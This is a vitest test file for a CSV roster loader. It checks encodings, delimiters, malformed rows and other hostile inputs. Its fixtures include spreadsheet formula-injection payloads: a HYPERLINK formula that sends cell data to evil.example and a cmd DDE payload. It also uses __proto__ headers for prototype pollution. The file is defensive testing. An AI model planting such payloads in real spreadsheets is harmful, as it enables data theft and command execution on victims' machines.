// Hostile CSV rosters (issue 4): spreadsheets write rosters in many shapes. Each shape is read
// right (with positions on the physical lines) or is one clear `file/unreadable` finding naming
// the line; formula-looking cells are text, never evaluated.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ensureBuilt } from "../helpers/cli.js";
import { loadCsv } from "../../src/load/csv.js";
import { Sandbox, checkBatch, checkCase, csvText, gbkCsvBytes, runBatch, type BatchRun, type HostileCase } from "./helpers.js";

const box = new Sandbox();
const T = csvText(); // the GB18030 fixture as text, LF line ends
const L = T.trimEnd().split("\n");
const roster = (content: string | Uint8Array) => ({ "members.yaml": null, "members.csv": content });
const utf16le = (s: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(s, "utf16le")]);
const utf16be = (s: string) => Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(s, "utf16le").swap16()]);
/** Row of member M03 with a credit code whose check character is wrong. */
const badCode = (text: string) => text.replace("12230000414003121B", "12230000414003121C");
const codeColumn = L[3].indexOf("12230000414003121B") + 1;

const formula = '=HYPERLINK("http://evil.example/?q="&A1,"王立新")';
const formulas = T.replace("M01,松花江铝业股份有限公司,企业,91230100MA1B2C3D8M,王立新,", `M01,松花江铝业股份有限公司,企业,91230100MA1B2C3D8M,"${formula.replace(/"/g, '""')}",`)
  .replace("M02,龙江理工大学,高校,12230000412005676E,陈志远,是,黑龙江省", "M02,龙江理工大学,高校,12230000412005676E,陈志远,是,=1+1")
  .replace("M04,哈东精密铸造有限公司,企业,91230110MA18XK5P7K,赵敏,是,黑龙江省", "M04,哈东精密铸造有限公司,企业,91230110MA18XK5P7K,赵敏,是,@SUM(1+1)*cmd|' /C calc'!A0");

const CASES: HostileCase[] = [
  { dir: "gb18030", title: "GBK/GB18030 from a Chinese spreadsheet is decoded, never mojibake", files: roster(gbkCsvBytes()), pass: true },
  {
    dir: "ragged-long",
    title: "a ragged row (one cell too many) names the line and hints at quoting",
    files: roster([L[0], L[1], L[2].replace("龙江理工大学", "龙江理工大学,哈尔滨校区"), ...L.slice(3)].join("\n") + "\n"),
    expect: { ruleId: "file/unreadable", file: "members.csv", line: 3, message: /CSV line 3 has 11 cells but the header has 10 \(a comma inside a cell must be quoted\)/ },
    only: true,
  },
  {
    dir: "ragged-short",
    title: "a ragged row (cells missing) names the line",
    files: roster([L[0], L[1], L[2], L[3].split(",").slice(0, 6).join(","), ...L.slice(4)].join("\n") + "\n"),
    expect: { ruleId: "file/unreadable", file: "members.csv", line: 4, message: /CSV line 4 has 6 cells but the header has 10; fill in or remove cells/ },
    only: true,
  },
  {
    dir: "quoted-newline",
    title: "a quoted cell holding a line break: read whole, later findings on their physical line",
    files: roster(badCode(T.replace("M01,松花江铝业股份有限公司,", 'M01,"松花江铝业\n股份有限公司",'))),
    expect: { ruleId: "members/credit-code-invalid", file: "members.csv", line: 5, column: codeColumn, message: /12230000414003121C/ },
  },
  { dir: "bom", title: "a UTF-8 BOM", files: roster("\uFEFF" + T), pass: true },
  {
    dir: "bom-position",
    title: "a UTF-8 BOM does not shift columns",
    files: roster("\uFEFF" + badCode(T)),
    expect: { ruleId: "members/credit-code-invalid", file: "members.csv", line: 4, column: codeColumn },
  },
  { dir: "semicolon", title: "semicolon-separated (Excel in some locales)", files: roster(T.replace(/,/g, ";")), pass: true },
  { dir: "tab-separated", title: "tab-separated", files: roster(T.replace(/,/g, "\t")), pass: true },
  { dir: "utf16le", title: "UTF-16 LE with a BOM (Excel's Unicode text)", files: roster(utf16le(T.replace(/,/g, "\t"))), pass: true },
  { dir: "utf16be", title: "UTF-16 BE with a BOM", files: roster(utf16be(T)), pass: true },
  { dir: "crlf", title: "CRLF line ends", files: roster(T.replace(/\n/g, "\r\n")), pass: true },
  {
    dir: "cr-only",
    title: "lone-CR line ends (old Excel for Mac): rows and lines counted right",
    files: roster(badCode(T).replace(/\n/g, "\r")),
    expect: { ruleId: "members/credit-code-invalid", file: "members.csv", line: 4, column: codeColumn },
  },
  {
    dir: "formulas",
    title: "Excel formula-looking cells (=HYPERLINK, =1+1, @SUM|cmd) are text, never evaluated",
    files: roster(formulas),
    expect: { ruleId: "agreement/signatory-not-legal-rep", file: "charter.yaml", message: /=HYPERLINK\("http:\/\/evil\.example\/\?q="&A1,"王立新"\)/ },
  },
  {
    dir: "empty",
    title: "an empty file",
    files: roster(""),
    expect: { ruleId: "file/unreadable", file: "members.csv", line: 1, column: 1, message: /the file is empty/ },
    only: true,
  },
  {
    dir: "header-only",
    title: "a header only: no member rows",
    files: roster(L[0] + "\n"),
    expect: { ruleId: "file/unreadable", file: "members.csv", line: 1, column: 1, message: /header row but no member rows/ },
    only: true,
  },
  {
    dir: "duplicate-column",
    title: "a column given twice (编号 and id) is refused, naming both columns",
    files: roster(T.replace(/^编号,/, "编号,id,").replace(/\n(M0\d),/g, "\n$1,$1,")),
    expect: { ruleId: "file/unreadable", file: "members.csv", line: 1, column: 4, message: /the header columns 1 \("编号"\) and 2 \("id"\) name the same field/ },
    only: true,
  },
  {
    dir: "unclosed-quote",
    title: "an unclosed quote names the line",
    files: roster(T.replace("M03,黑龙江省轻金属研究院,", 'M03,"黑龙江省轻金属研究院,')),
    expect: { ruleId: "file/unreadable", file: "members.csv", message: /^CSV syntax error \(line \d+\)/ },
    only: true,
  },
  {
    dir: "proto-header",
    title: "__proto__ and constructor columns are plain data",
    files: roster(T.replace(/^(.*)\n/, "$1,__proto__,constructor\n").replace(/\n(M0\d,.*)/g, "\n$1,{},x")),
  },
];

let run: BatchRun;
beforeAll(async () => {
  await ensureBuilt();
  run = await runBatch(box, CASES);
}, 180_000);
afterAll(() => box.cleanup());

describe("hostile CSV", () => {
  for (const c of CASES) it(c.title, () => checkCase(run, c));

  it("formula cells reach the report verbatim (as text) and nothing else happened", () => {
    const p = run.cliReport.proposals.find((x) => x.path === "batch/formulas")!;
    expect(JSON.stringify(p)).toContain(JSON.stringify(formula).slice(1, -1));
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it("the batch: every proposal reported, same report in-process and from the binary, nothing changed", () => {
    checkBatch(run, CASES);
  });
});

describe("the CSV loader on its own", () => {
  it("200,000 rows load in seconds (positions are worked out on demand, not stored per cell)", () => {
    const text = "id,name,type\n" + Array.from({ length: 200_000 }, (_, i) => `M${i},成员${i},企业`).join("\n") + "\n";
    const r = loadCsv(text);
    expect(r.ok).toBe(true);
    if (r.ok) {
      expect(r.doc.locate("/members/199999/name")).toEqual({ line: 200_001, column: String(`M199999,`).length + 1 });
      expect(r.doc.locate("/members/5/type", "key")).toEqual({ line: 1, column: 9 });
      expect(r.doc.locate("/members/5/province")).toEqual({ line: 7, column: 1 });
      expect(r.doc.locate("/members/999999/id")).toEqual({ line: 1, column: 1 });
    }
  });

  it("a __proto__ header does not reach a prototype", () => {
    const r = loadCsv("id,__proto__\nM01,x\n");
    expect(r.ok).toBe(true);
    if (r.ok) {
      const m = (r.doc.data.members as Record<string, unknown>[])[0];
      // An unknown header holds no member data (B1): nothing reaches the member, least of all its prototype.
      expect(Object.getPrototypeOf(m)).toBe(Object.prototype);
      expect(Object.hasOwn(m, "__proto__")).toBe(false);
    }
  });
});
